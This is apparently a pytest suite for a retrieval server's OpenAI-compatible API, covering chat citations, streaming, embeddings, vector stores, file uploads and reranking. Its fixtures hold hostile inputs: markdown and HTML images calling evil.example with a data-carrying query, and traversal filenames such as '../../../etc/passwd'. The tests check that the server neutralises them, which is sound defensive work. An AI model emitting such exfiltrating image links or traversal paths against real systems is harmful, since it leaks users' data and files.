"""OpenAI's API, called by OpenAI's own client over a socket."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator, Sequence
from pathlib import Path
from threading import Event, Thread
from typing import Any

import numpy as np
import pytest

pytest.importorskip("fastapi")
pytest.importorskip("openai")

import openai

from mergewise.models.scripted import Turn
from mergewise.server import models as server_models
from mergewise.server.configuration import ModelConfig, ProfileConfig
from mergewise.server.jobs.runner import JobRunner
from mergewise.types import Message
from tests.server.conftest import ANSWER, LiveServer, live_server, make_collection, record_of
from tests.support import until

QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
PICTURE = {"type": "image_url", "image_url": {"url": "http://x"}}
IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example">. ' + ANSWER
HOSTILE = """# Vault ![h](http://evil.example/h)

The vault opens at noon ![x](http://evil.example/?q=all-that-stands-here) with <img src=http://evil.example> the red key [7].
"""
TITLE = '{"title": "Ships"}'
ITS_ID = {"type": "eq", "key": "id"}
PROFILES = {
    "fleet": ProfileConfig("ships", title="The fleet", footer="auto", filter={**ITS_ID, "value": "ships/fleet.md"}),
    "web": ProfileConfig("ships", footer="auto", open_webui=True, tasks=True),
    "nothing": ProfileConfig("ships", filter={**ITS_ID, "value": "other.md"}),
    "quotes": ProfileConfig("ships", chat="extractive"),
    "birds": ProfileConfig("birds"),
    "hostile": ProfileConfig("hostile", chat="extractive", footer="always"),
}


def script(messages: Sequence[Message]) -> str | Turn:
    asked = messages[-1].text
    if "### Task" in asked:
        return TITLE
    if "fail" in asked:
        return Turn("no", status=400)
    return IMAGE if "picture" in asked else ANSWER


class ByLength:
    """A `Reranker` that likes long texts."""

    spec = "cross-encoder:small"

    def score(self, question: str, texts: Sequence[str]) -> Any:
        return np.array([1 - 1 / (1 + len(text)) for text in texts])


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory, scripted_key: None) -> Iterator[LiveServer]:
    """Server with profiles and a running writer."""
    models: dict[str, Any] = {"profiles": PROFILES, "rerankers": {"small": ModelConfig("cross-encoder:small")}}
    with (
        pytest.MonkeyPatch.context() as patch,
        live_server(tmp_path_factory.mktemp("profiles"), script, allow_writes_by_mcp=True, **models) as live,
    ):
        patch.setattr(server_models, "load_reranker", lambda spec: ByLength())
        make_collection(live.config, live.state, "hostile", {"![x](http://evil.example).md": HOSTILE})
        live.state.collections.add(record_of(live.config, "empty"))
        live.tokens["both"] = live.state.tokens.add(["read", "write"], rate=10_000)[1]
        stop, writer = Event(), JobRunner(live.config, live.state)

        def write() -> None:
            while not stop.wait(0.05):
                writer.run_round()

        thread = Thread(target=write)
        thread.start()
        yield live
        stop.set()
        thread.join()
        writer.close()


@pytest.fixture
def clients() -> Iterator[list[Any]]:
    made: list[Any] = []
    yield made
    for client in made:
        client.close()


def client_of(live: LiveServer, clients: list[Any], token: str = "both", **options: Any) -> Any:
    client = openai.OpenAI(base_url=f"{live.base}/v1", api_key=live.tokens.get(token, token), **options)
    clients.append(client)
    return client


@pytest.fixture
def client(live: LiveServer, clients: list[Any]) -> Any:
    return client_of(live, clients)


def test_models_are_profiles_or_collections_with_their_strategies(
    live: LiveServer, server: LiveServer, clients: list[Any], client: Any
) -> None:
    # the embedder of the collections comes last
    ids = [*PROFILES, "minilm"]
    assert [(model.id, model.owned_by) for model in client.models.list()] == [(id, "mergewise") for id in ids]
    assert client.models.retrieve("minilm").id == "minilm"
    assert client.models.retrieve("fleet").name == "The fleet"
    names = [model.id for model in client_of(server, clients, "read").models.list()]
    assert {"birds", "ships", "ships:weave", "ships:topk"} <= set(names) and "ships:macrag" not in names
    secret = live.state.tokens.add(["read"], collections=["birds"], rate=10_000)[1]
    narrow = client_of(live, clients, secret)
    assert [model.id for model in narrow.models.list()] == ["birds", "minilm"]
    with pytest.raises(openai.NotFoundError) as raised:
        narrow.chat.completions.create(model="fleet", messages=QUESTION)
    assert raised.value.code == "model_not_found" and raised.value.param == "model"


def test_annotations_are_the_citations(live: LiveServer, clients: list[Any]) -> None:
    whole = client_of(live, clients).chat.completions.create(model="fleet", messages=QUESTION, temperature=0.2, seed=3)
    sent = live.chat.asked[-1].options
    assert (sent["temperature"], sent["seed"]) == (0.2, 3)
    message, body = whole.choices[0].message, whole.mergewise
    assert message.content.startswith(ANSWER + "\n\nSources: [1] ") and body["answer"] == ANSWER
    assert whole.choices[0].finish_reason == "stop" and body["ignored"] == []
    assert {citation["mark"] for citation in body["citations"]} == {1}
    (annotation,) = message.annotations
    place = annotation.url_citation
    assert message.content[place.start_index : place.end_index] == "[1]"
    cited = body["citations"][0]
    assert place.url == live.base + cited["url"] and place.title == cited["title"]
    assert body["context"]["passages"]
    assert whole.usage.total_tokens == body["usage"]["input_tokens"] + body["usage"]["output_tokens"]


def test_a_stream_equals_the_complete_answer(client: Any) -> None:
    whole = client.chat.completions.create(model="fleet", messages=QUESTION)
    options = {"include_usage": True}
    with client.chat.completions.stream(model="fleet", messages=QUESTION, stream_options=options) as stream:
        types = [event.type for event in stream]
        final = stream.get_final_completion()
    # one or more pieces of the answer, then the footer
    assert types.count("content.delta") >= 2
    assert final.choices[0].message.content == whole.choices[0].message.content
    assert final.choices[0].message.annotations == whole.choices[0].message.annotations
    assert final.choices[0].finish_reason == "stop" and final.usage == whole.usage


def lines_of(live: LiveServer, body: dict[str, Any]) -> list[str]:
    with live.client("both").stream("POST", "/v1/chat/completions", json={**body, "stream": True}) as answer:
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/event-stream")
        return [line.removeprefix("data: ") for line in answer.iter_lines() if line.startswith("data: ")]


def test_a_stream_has_one_chunk_of_annotations_and_ends(live: LiveServer) -> None:
    lines = lines_of(live, {"model": "fleet", "messages": QUESTION})
    assert lines[-1] == "[DONE]"
    chunks = [json.loads(line) for line in lines[:-1]]
    assert sum("annotations" in chunk["choices"][0]["delta"] for chunk in chunks) == 1
    assert all(chunk["choices"] and chunk["object"] == "chat.completion.chunk" for chunk in chunks)
    assert len({chunk["id"] for chunk in chunks}) == 1 and "usage" not in chunks[0]


def test_open_webui_gets_its_events(live: LiveServer) -> None:
    chunks = [json.loads(line) for line in lines_of(live, {"model": "web", "messages": QUESTION})[:-1]]
    (event,) = [chunk["event"] for chunk in chunks if "event" in chunk]
    assert event["type"] == "source" and event["data"]["source"]["id"].startswith("mw:")
    assert event["data"]["source"]["url"].startswith(f"{live.base}/#/c/ships/d/")
    assert "built in Lyme" in event["data"]["document"][0]
    content = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks if "choices" in chunk)
    assert content == ANSWER


def test_a_late_failure_is_an_error_of_the_stream(client: Any) -> None:
    asked = [{"role": "user", "content": "Will it fail?"}]
    with pytest.raises(openai.APIError) as raised:
        for _ in client.chat.completions.create(model="fleet", messages=asked, stream=True):
            pass
    assert raised.value.code == "model-failed"
    with pytest.raises(openai.InternalServerError):
        client.with_options(max_retries=0).chat.completions.create(model="fleet", messages=asked)


@pytest.mark.parametrize("streamed", [False, True])
def test_an_image_of_the_model_does_not_load(client: Any, streamed: bool) -> None:
    asked = {"model": "fleet", "messages": [{"role": "user", "content": "Show the Aurora as a picture"}]}
    if streamed:
        with client.chat.completions.stream(**asked) as stream:
            message = stream.get_final_completion().choices[0].message
    else:
        message = client.chat.completions.create(**asked).choices[0].message
    assert message.content.startswith(
        'See !\\[x](http://evil.example/?q=all-that-stands-here), &lt;img src="http://evil.example">. '
        f"{ANSWER}\n\nNot supported by the sources: “See "
    )
    place = message.annotations[0].url_citation
    assert message.content[place.start_index : place.end_index] == "[1]"


def test_a_document_brings_no_image_and_no_mark(live: LiveServer, clients: list[Any]) -> None:
    asked = [{"role": "user", "content": "When does the vault open with the red key?"}]
    message = client_of(live, clients).chat.completions.create(model="hostile", messages=asked).choices[0].message
    assert "opens at noon" in message.content and "\n\nSources: [1] " in message.content
    assert "![" not in message.content and "<img" not in message.content
    # the document's own [7] is not one of our marks
    assert len(message.annotations) == 1


def test_a_collection_without_documents_is_empty(client: Any) -> None:
    assert client.vector_stores.search("empty", query="x").data == []
    assert client.vector_stores.retrieve("empty").file_counts.total == 0
    assert list(client.vector_stores.files.list("empty")) == []


def test_earlier_messages_are_the_history(live: LiveServer, clients: list[Any]) -> None:
    messages = [
        {"role": "system", "content": "Answer in French."},
        {"role": "user", "content": "Where was the Aurora built?"},
        {"role": "assistant", "content": "In Lyme [1]."},
        {"role": "user", "content": "And when did it sail to Iceland?"},
    ]
    body = client_of(live, clients).chat.completions.create(model="quotes", messages=messages).mergewise
    assert body["mode"] == "extractive" and body["question"] == messages[-1]["content"]
    assert "Aurora" in body["context"]["question"] and body["ignored"] == ["instructions"]


def test_options_in_the_field_mergewise_have_priority(client: Any) -> None:
    asked = {"strategy": "topk", "parameters": {"k": 2}, "budget": 64, "include": ["trace"], "footer": False}
    whole = client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": asked})
    context = whole.mergewise["context"]
    assert (context["strategy"], context["budget"]) == ("topk", 64) and context["trace"]
    assert "Sources:" not in whole.choices[0].message.content
    none = {"where": {"type": "eq", "key": "id", "value": "birds.md"}}
    both = client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": none})
    assert both.mergewise["context"]["passages"] == []
    with pytest.raises(openai.UnprocessableEntityError):
        client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": {"path": "/etc"}})


@pytest.mark.parametrize(
    ("more", "param"),
    [
        ({"n": 2}, "n"),
        ({"tools": [], "tool_choice": "required"}, "tool_choice"),
        ({"messages": [{"role": "assistant", "content": "x"}]}, "messages"),
        ({"messages": [{"role": "user", "content": [PICTURE]}]}, "messages"),
    ],
)
def test_unsupported_parameters_are_bad_requests(
    live: LiveServer, clients: list[Any], more: dict[str, Any], param: str
) -> None:
    with pytest.raises(openai.BadRequestError) as raised:
        client_of(live, clients).chat.completions.create(**{"model": "fleet", "messages": QUESTION, **more})
    assert raised.value.param == param and raised.value.type == "invalid_request_error"


def test_optional_tools_are_ignored(live: LiveServer, clients: list[Any]) -> None:
    tools = [{"type": "function", "function": {"name": "x", "parameters": {}}}]
    whole = client_of(live, clients).chat.completions.create(
        model="fleet", messages=QUESTION, tools=tools, tool_choice="auto"
    )
    assert whole.choices[0].message.tool_calls is None and whole.mergewise["ignored"] == ["tools"]


def test_tasks_of_programs_are_answered_by_the_model_of_a_profile_with_tasks_or_by_rules(
    live: LiveServer, clients: list[Any]
) -> None:
    client = client_of(live, clients)
    task = '### Task:\nA title as {"title": ""}\n<chat_history>\nUSER: Where was it built?\nASSISTANT: Lyme.\n</chat_history>'
    asked = [{"role": "user", "content": task}]
    assert client.chat.completions.create(model="web", messages=asked).choices[0].message.content == TITLE
    sent = live.chat.asked[-1]
    assert [message.text for message in sent.messages] == [task] and sent.max_tokens == 300
    before = len(live.chat.asked)
    # without the setting, and for a long task, no model is called
    long = [{"role": "user", "content": task + "x" * 40_000}]
    for model, messages in (("fleet", asked), ("web", long)):
        answer = client.chat.completions.create(model=model, messages=messages).choices[0].message.content
        assert json.loads(answer) == {"title": "Where was it built?"}
    earlier = [{"role": "user", "content": "Write a poem."}, {"role": "assistant", "content": "No."}, *asked]
    client.chat.completions.create(model="fleet", messages=earlier)
    assert len(live.chat.asked) == before
    quoted = client.chat.completions.create(model="quotes", messages=asked).choices[0].message
    assert json.loads(quoted.content) == {"title": "Where was it built?"} and not quoted.annotations
    with client.chat.completions.stream(model="quotes", messages=asked) as stream:
        assert stream.get_final_completion().choices[0].message.content == quoted.content


def test_embeddings_come_as_numbers_and_as_bytes(client: Any) -> None:
    texts = ["a wooden ship", "an owl"]
    numbers = client.embeddings.create(model="minilm", input=texts, encoding_format="float")
    # the client requests base64 and decodes it
    unpacked = client.embeddings.create(model="minilm", input=texts)
    packed = client.embeddings.create(model="minilm", input=texts[0], encoding_format="base64").data[0].embedding
    assert [len(one.embedding) for one in numbers.data] == [384, 384]
    for one, other in zip(numbers.data, unpacked.data, strict=True):
        assert one.embedding == pytest.approx(list(other.embedding), abs=1e-6)
    assert struct.unpack("<384f", base64.b64decode(packed)) == pytest.approx(numbers.data[0].embedding, abs=1e-6)
    assert sum(number * number for number in numbers.data[0].embedding) == pytest.approx(1, abs=1e-3)
    assert numbers.usage.prompt_tokens > 3
    refused: list[dict[str, object]]
    refused = [{"input": ["x"] * 2_049}, {"input": []}, {"input": [[]]}, {"input": " "}, {"dimensions": 10}]
    for wrong in refused:
        with pytest.raises(openai.BadRequestError):
            client.embeddings.create(**{"model": "minilm", "input": "x", **wrong})
    with pytest.raises(openai.NotFoundError):
        client.embeddings.create(model="text-embedding-3-small", input="x")


def test_two_thousand_texts_are_embedded_in_one_request(client: Any) -> None:
    texts = [f"ship {number}" for number in range(2_048)]
    many = client.embeddings.create(model="minilm", input=texts, dimensions=384)
    assert [one.index for one in many.data] == list(range(2_048))
    alone = client.embeddings.create(model="minilm", input=texts[-1]).data[0].embedding
    assert many.data[-1].embedding == pytest.approx(alone, abs=1e-3)


def test_a_question_does_not_wait_for_a_long_request_of_embeddings(live: LiveServer, client: Any) -> None:
    texts = [f"ship {number} {'of wood ' * 40}" for number in range(1_024)]
    thread = Thread(target=lambda: client.embeddings.create(model="minilm", input=texts))
    thread.start()
    assert until(lambda: live.service.admission._free == 0)
    assert client.vector_stores.search("ships", query="Where was the Borealis built?").data
    assert thread.is_alive()
    thread.join()


@pytest.mark.parametrize("tokens", [[3923, 17], [[3923, 17], [1]]])
def test_token_ids_are_refused(client: Any, tokens: Any) -> None:
    with pytest.raises(openai.BadRequestError) as raised:
        client.embeddings.create(model="minilm", input=tokens)
    assert raised.value.param == "input"
    assert "check_embedding_ctx_length=False" in raised.value.message


def test_a_vector_store_is_searched(client: Any) -> None:
    stores = {store.id: store for store in client.vector_stores.list()}
    assert {"birds", "ships"} <= set(stores) and stores["birds"].file_counts.completed == 1
    assert client.vector_stores.retrieve("birds").usage_bytes > 100
    found = client.vector_stores.search("ships", query="Where was the Aurora built?", max_num_results=2)
    best = found.data[0]
    assert found.search_query == ["Where was the Aurora built?"] and len(found.data) == 2
    assert "built in Lyme" in best.content[0].text and list(best.attributes) == ["kind"]
    assert best.mergewise["spans"][0]["end"] > best.mergewise["spans"][0]["start"]
    assert [one.score for one in found.data] == sorted((one.score for one in found.data), reverse=True)
    none = {"type": "eq", "key": "kind", "value": "x"}
    assert client.vector_stores.search("ships", query="Lyme", filters=none).data == []
    few = client.vector_stores.search("ships", query="Lyme", ranking_options={"score_threshold": 0.99}).data
    assert few and all(one.score >= 0.99 for one in few)
    both = client.vector_stores.search("birds", query=["owls", "terns"], max_num_results=4).data
    assert len({one.content[0].text for one in both}) == len(both) == 2
    with pytest.raises(openai.NotFoundError):
        client.vector_stores.search("nowhere", query="x")
    with pytest.raises(openai.UnprocessableEntityError):
        client.vector_stores.search("ships", query="x", max_num_results=51)


def test_files_are_sent_and_polled(client: Any, tmp_path: Path) -> None:
    named = tmp_path / "moles.md"
    named.write_text("# Moles\n\nMoles dig under the lawn.\n", encoding="utf-8")
    done = client.vector_stores.files.upload_and_poll(
        vector_store_id="birds", file=named, attributes={"kind": "mole"}, poll_interval_ms=50
    )
    assert done.status == "completed" and done.attributes == {"kind": "mole"} and done.last_error is None
    (sent,) = [one for one in client.files.list() if one.filename == "moles.md"]
    assert done.id == sent.id and client.files.content(sent.id).content == named.read_bytes()
    (found,) = client.vector_stores.search("birds", query="Who digs?", max_num_results=1).data
    assert found.filename == "Moles" and "dig under the lawn" in found.content[0].text
    assert "dig under the lawn" in client.vector_stores.files.content(done.id, vector_store_id="birds").data[0].text
    listed = {one.id: one.status for one in client.vector_stores.files.list("birds")}
    assert listed[found.file_id] == "completed"
    assert client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds").status == "completed"
    assert client.vector_stores.files.delete(sent.id, vector_store_id="birds").deleted
    assert until(lambda: found.file_id not in {one.id for one in client.vector_stores.files.list("birds")})
    with pytest.raises(openai.NotFoundError):
        client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds")
    assert client.files.delete(sent.id).deleted
    with pytest.raises(openai.NotFoundError):
        client.files.retrieve(sent.id)


def test_a_vector_store_is_created_changed_and_deleted(live: LiveServer, clients: list[Any], client: Any) -> None:
    admin = client_of(live, clients, live.state.tokens.add(["read", "write", "admin"], rate=10_000)[1])
    sent = admin.files.create(file=("voles.md", b"# Voles\n\nVoles live under the hedge."), purpose="user_data")
    made = admin.vector_stores.create(name="My Voles!", file_ids=[sent.id], metadata={"team": "field"})
    assert (made.id, made.name, made.metadata) == ("my-voles", "My Voles!", {"team": "field"})
    assert (made.status, made.file_counts.in_progress) == ("in_progress", 1)
    assert until(lambda: admin.vector_stores.retrieve(made.id).status == "completed")
    assert admin.vector_stores.retrieve(made.id).file_counts.completed == 1
    assert "hedge" in admin.vector_stores.search(made.id, query="Where do voles live?").data[0].content[0].text
    again = admin.vector_stores.create(name="My Voles!")
    assert again.id.startswith("my-voles-") and again.metadata == {}
    unnamed = admin.vector_stores.create()
    assert [one.id for one in admin.vector_stores.list(limit=2)][:2] == [unnamed.id, again.id]
    oldest = [one.id for one in admin.vector_stores.list(order="asc", limit=1)]
    assert oldest == [one.id for one in admin.vector_stores.list(limit=1)][::-1] and len(set(oldest)) == len(oldest) > 4
    changed = admin.vector_stores.update(made.id, name="Voles", metadata={"team": "lab"})
    assert (changed.id, changed.name, changed.metadata) == ("my-voles", "Voles", {"team": "lab"})
    with pytest.raises(openai.NotFoundError):
        admin.vector_stores.create(name="unmade", file_ids=["file-" + "0" * 32])
    assert "unmade" not in {one.id for one in admin.vector_stores.list()}
    with pytest.raises(openai.BadRequestError, match="expires_after"):
        admin.vector_stores.create(name="x", expires_after={"anchor": "last_active_at", "days": 1})
    for call in (
        lambda: client.vector_stores.create(name="x"),
        lambda: client.vector_stores.update("birds", name="x"),
        lambda: client.vector_stores.delete("birds"),
    ):
        with pytest.raises(openai.PermissionDeniedError):
            call()
    for id in (made.id, again.id, unnamed.id):
        assert admin.vector_stores.delete(id).deleted
    assert until(lambda: not {made.id, again.id, unnamed.id} & {one.id for one in admin.vector_stores.list()})
    with pytest.raises(openai.NotFoundError):
        admin.vector_stores.retrieve(made.id)


def test_files_are_listed_by_pages(live: LiveServer, clients: list[Any]) -> None:
    client = client_of(live, clients, live.state.tokens.add(["read", "write"], rate=10_000)[1])
    purposes = ["assistants", "user_data", "assistants", "vision"]
    sent = [client.files.create(file=(f"{n}.md", b"x"), purpose=kind) for n, kind in enumerate(purposes)]
    assert [one.purpose for one in sent] == purposes
    assert [one.filename for one in client.files.list(limit=2)] == ["3.md", "2.md", "1.md", "0.md"]
    assert [one.filename for one in client.files.list(order="asc", limit=3)] == ["0.md", "1.md", "2.md", "3.md"]
    assert [one.filename for one in client.files.list(purpose="assistants", limit=1)] == ["2.md", "0.md"]
    with pytest.raises(openai.UnprocessableEntityError):
        client.files.create(file=("x.jsonl", b"{}"), purpose="batch")
    # the last file of a page is gone when the client asks for the next page
    for one in client.files.list(limit=2):
        client.files.delete(one.id)
    assert list(client.files.list()) == []


def test_attributes_of_a_file_change(client: Any, tmp_path: Path) -> None:
    named = tmp_path / "shrews.md"
    named.write_text("Shrews are small.", encoding="utf-8")
    done = client.vector_stores.files.upload_and_poll(
        vector_store_id="birds", file=named, attributes={"kind": "shrew", "year": 1}, poll_interval_ms=50
    )
    changed = client.vector_stores.files.update(done.id, vector_store_id="birds", attributes={"year": 2})
    assert changed.id == done.id and changed.attributes == {"kind": "shrew", "year": 2}
    shrews = {"type": "and", "filters": [{"type": "eq", "key": "year", "value": 2}]}
    assert until(lambda: bool(client.vector_stores.search("birds", query="small", filters=shrews).data))
    with pytest.raises(openai.NotFoundError):
        client.vector_stores.files.update("file-" + "0" * 32, vector_store_id="birds", attributes={"year": 2})


def test_a_batch_of_files_is_one_job(client: Any, tmp_path: Path) -> None:
    for name, content in (("newts.md", b"Newts live in ponds."), ("broken.pdf", b"%PDF-nothing")):
        (tmp_path / name).write_bytes(content)
    files = [tmp_path / "newts.md", tmp_path / "broken.pdf"]
    batch = client.vector_stores.file_batches.upload_and_poll("birds", files=files, poll_interval_ms=50)
    assert batch.status == "completed"
    assert (batch.file_counts.completed, batch.file_counts.failed, batch.file_counts.total) == (1, 1, 2)
    failed = list(client.vector_stores.files.list("birds", filter="failed"))
    assert [one.last_error.code for one in failed] == ["invalid_file"] and failed[0].last_error.message
    with pytest.raises(openai.NotFoundError):
        client.vector_stores.file_batches.retrieve("none", vector_store_id="birds")


def test_a_file_is_visible_only_to_its_sender(live: LiveServer, clients: list[Any], client: Any) -> None:
    sent = client.files.create(file=("../../../etc/passwd", b"Not a path."), purpose="assistants")
    assert sent.filename == "passwd" and sent.bytes == 11
    other = client_of(live, clients, live.state.tokens.add(["read", "write"], rate=10_000)[1])
    for call in (
        lambda: other.files.retrieve(sent.id),
        lambda: other.files.content(sent.id),
        lambda: other.vector_stores.files.create("birds", file_id=sent.id),
        lambda: client.files.retrieve("file-" + "0" * 32),
        lambda: client.files.retrieve("file-..%2f..%2fserver"),
    ):
        with pytest.raises(openai.NotFoundError):
            call()
    with pytest.raises(openai.PermissionDeniedError):
        client_of(live, clients, "read").files.create(file=("x.md", b"x"), purpose="assistants")
    assert [path.name for path in (live.config.data / "files").glob("*") if "passwd" in path.name] == []


def test_the_client_retries_after_too_many_requests(live: LiveServer, clients: list[Any]) -> None:
    secret = live.state.tokens.add(["read"], rate=4)[1]
    client = client_of(live, clients, secret)
    taken = [client.models.with_raw_response.list().retries_taken for _ in range(6)]
    assert max(taken) >= 1
    with pytest.raises(openai.RateLimitError) as raised:
        for _ in range(20):
            client.with_options(max_retries=0).models.list()
    assert float(raised.value.response.headers["retry-after-ms"]) <= 1000 and raised.value.code == "rate"


def test_reranking_matches_the_form_of_cohere(live: LiveServer) -> None:
    def ask(**more: Any) -> Any:
        body = {"model": "small", "query": "Who digs?", "documents": ["a", "bbb", "bb"], **more}
        return live.client("both").post("/v2/rerank", json=body)

    body = ask().json()
    assert [one["index"] for one in body["results"]] == [1, 2, 0]
    scores = [one["relevance_score"] for one in body["results"]]
    assert scores == sorted(scores, reverse=True) and scores[-1] >= 0 and scores[0] <= 1
    assert [one["index"] for one in ask(top_n=1).json()["results"]] == [1]
    for wrong, status in (({"documents": []}, 422), ({"model": "rerank-v3.5"}, 404), ({"query": ""}, 422)):
        answer = ask(**wrong)
        assert answer.status_code == status and answer.json()["error"]["message"], wrong


def test_mcp_tools_write_by_jobs(live: LiveServer) -> None:
    pytest.importorskip("mcp")
    from tests.server.test_mcp_tools import over_http, refusal, result_of

    async def write(client: Any) -> None:
        added = {"id": "newts/more.md", "text": "Crested newts bask.", "title": "Newts", "collection": "birds"}
        assert await result_of(client, "add_text", **added) == "The text is indexed."
        assert "Crested newts bask." in await result_of(client, "read", place="newts/more.md", collection="birds")
        removed = await result_of(client, "remove_document", id="newts/more.md", collection="birds")
        assert removed == "The document is removed."
        again = await refusal(client, "remove_document", id="newts/more.md", collection="birds")
        assert "document not found" in again

    async def only_read(client: Any) -> None:
        said = await refusal(client, "add_text", id="x.md", text="y", collection="birds")
        assert "missing scope: write" in said
        assert "missing scope: write" in await refusal(client, "remove_document", id="birds.md", collection="birds")

    over_http(live, write, "both")
    over_http(live, only_read, "read")
